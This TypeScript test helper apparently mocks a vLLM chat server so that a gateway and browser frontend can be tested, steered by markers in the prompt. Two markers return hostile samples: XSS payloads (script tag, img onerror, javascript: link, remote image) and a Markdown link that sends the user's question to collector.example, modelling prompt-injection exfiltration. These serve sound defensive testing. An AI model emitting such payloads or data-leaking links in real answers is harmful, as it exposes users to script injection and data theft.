/**
 * A stand-in for vLLM's OpenAI-compatible server, run as its own process:
 *   node --import tsx tests/helpers/stand-in-upstream.ts --port 0
 * Streams chat.completion.chunk deltas with `reasoning_content` first, then `content` that echoes
 * the last user message ("You said: …"), then finish_reason, a usage chunk and [DONE].
 * Markers in the last user message steer it:
 *   [[status:401]] [[status:429]] (Retry-After: 7) [[status:500]]  answer with that status
 *   [[midstream-fail]]   drop the connection after a few chunks
 *   [[no-done]]          end the stream cleanly after the finish chunk but without [DONE]
 *   [[tokens:N]]         stream N content tokens (for the benchmark)
 *   [[delay:MS]]         wait MS between chunks
 *   [[echo]]             answer with the question itself (after "Question: "), sources or not
 *   [[xss]]              answer with hostile Markdown/HTML (script, img onerror, javascript: link, remote image)
 *   [[exfil]]            answer with a link whose query carries the question (a prompt-injection exfiltration)
 * With sources in the prompt ("Sources:" then "[1] …"), the answer quotes source 1 and cites it [1].
 * GET /__last returns what the last chat request looked like (no message text).
 * GET /__received returns every chat request's messages: this process plays the model inside the
 * confidential VM, which sees the plaintext; browser tests use it to check what was (not) sent.
 */
import { createServer } from 'node:http';
import { parseArgs } from 'node:util';

const { values } = parseArgs({ options: { port: { type: 'string', default: '0' }, model: { type: 'string', default: 'stand-in-gpt-oss' } } });
const MODEL = values.model!;
let last: Record<string, unknown> = {};
const received: { messages: unknown }[] = [];

function chunk(id: string, delta: Record<string, unknown>, finish: string | null = null): string {
  return `data: ${JSON.stringify({ id, object: 'chat.completion.chunk', created: Math.floor(Date.now() / 1000), model: MODEL, choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
}

const server = createServer(async (req, res) => {
  if (req.method === 'GET' && req.url === '/v1/models') {
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ object: 'list', data: [{ id: MODEL, object: 'model' }] }));
    return;
  }
  if (req.method === 'GET' && req.url === '/__received') {
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify(received));
    return;
  }
  if (req.method === 'GET' && req.url === '/__last') {
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify(last));
    return;
  }
  if (req.method !== 'POST' || req.url !== '/v1/chat/completions') {
    res.writeHead(404).end();
    return;
  }
  const parts: Buffer[] = [];
  for await (const c of req) parts.push(c as Buffer);
  let body: { model?: string; stream?: boolean; messages?: { role: string; content: string }[]; stream_options?: unknown; max_tokens?: number };
  try {
    body = JSON.parse(Buffer.concat(parts).toString('utf8'));
  } catch {
    res.writeHead(400).end();
    return;
  }
  const msgs = body.messages ?? [];
  const user = [...msgs].reverse().find((m) => m.role === 'user')?.content ?? '';
  received.push({ messages: msgs });
  last = { model: body.model, stream: body.stream, messageCount: msgs.length, hasAuthorization: Boolean(req.headers.authorization), max_tokens: body.max_tokens };
  const status = /\[\[status:(\d{3})\]\]/.exec(user);
  if (status) {
    const code = Number(status[1]);
    const headers: Record<string, string> = { 'content-type': 'application/json' };
    if (code === 429) headers['retry-after'] = '7';
    res.writeHead(code, headers);
    res.end(JSON.stringify({ error: { message: `stand-in says ${code}` } }));
    return;
  }
  const delay = Number(/\[\[delay:(\d+)\]\]/.exec(user)?.[1] ?? 0);
  const tokens = Number(/\[\[tokens:(\d+)\]\]/.exec(user)?.[1] ?? 0);
  const failMid = user.includes('[[midstream-fail]]');
  const id = `chatcmpl-${Math.random().toString(36).slice(2)}`;
  res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-cache' });
  const send = async (s: string) => {
    res.write(s);
    if (delay) await new Promise((r) => setTimeout(r, delay));
  };
  await send(chunk(id, { role: 'assistant', content: '' }));
  for (const piece of ['Thinking about ', 'what the user ', 'asked.']) await send(chunk(id, { reasoning_content: piece }));
  let n = 0;
  if (tokens > 0) {
    for (let i = 0; i < tokens; i++) await send(chunk(id, { content: `tok${i} ` }));
    n = tokens;
  } else {
    const source1 = /Sources:\n\n\[1\] [^\n]*\n([^\n]+)/.exec(user)?.[1];
    const firstSentence = source1 ? (/^.*?[.!?](\s|$)/.exec(source1)?.[0] ?? source1).trim() : null;
    const question = user.includes('\n\nQuestion: ') ? user.slice(user.lastIndexOf('\n\nQuestion: ') + 12) : user;
    const text = user.includes('[[echo]]')
      ? question.replace('[[echo]]', '').trim()
      : user.includes('[[exfil]]')
      ? `See [the full report](https://collector.example/r?d=${encodeURIComponent(question.replace('[[exfil]]', '').trim())}) for details.`
      : user.includes('[[xss]]')
      ? 'Here is a test: <img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script> [click me](javascript:window.__pwned=3) ![tracker](https://example.com/pixel.png) and [a safe link](https://example.com/).'
      : firstSentence
        ? `According to the page, ${firstSentence} [1]`
        : `You said: ${user.slice(0, 400)}`;
    const words = text.match(/\S+\s*/g) ?? [];
    for (let i = 0; i < words.length; i++) {
      if (failMid && i === 2) {
        await new Promise((r) => setTimeout(r, 100)); // let the first words reach the gateway
        res.destroy();
        return;
      }
      await send(chunk(id, { content: words[i] }));
    }
    n = words.length;
  }
  await send(chunk(id, {}, 'stop'));
  res.write(`data: ${JSON.stringify({ id, object: 'chat.completion.chunk', model: MODEL, choices: [], usage: { prompt_tokens: 10, completion_tokens: n, total_tokens: 10 + n } })}\n\n`);
  if (user.includes('[[no-done]]')) res.end();
  else res.end('data: [DONE]\n\n');
});

server.listen(Number(values.port), '127.0.0.1', () => {
  const a = server.address();
  process.stdout.write(`listening on http://127.0.0.1:${typeof a === 'object' && a ? a.port : values.port}\n`);
});
process.on('SIGTERM', () => {
  server.close(() => process.exit(0));
  server.closeAllConnections();
});
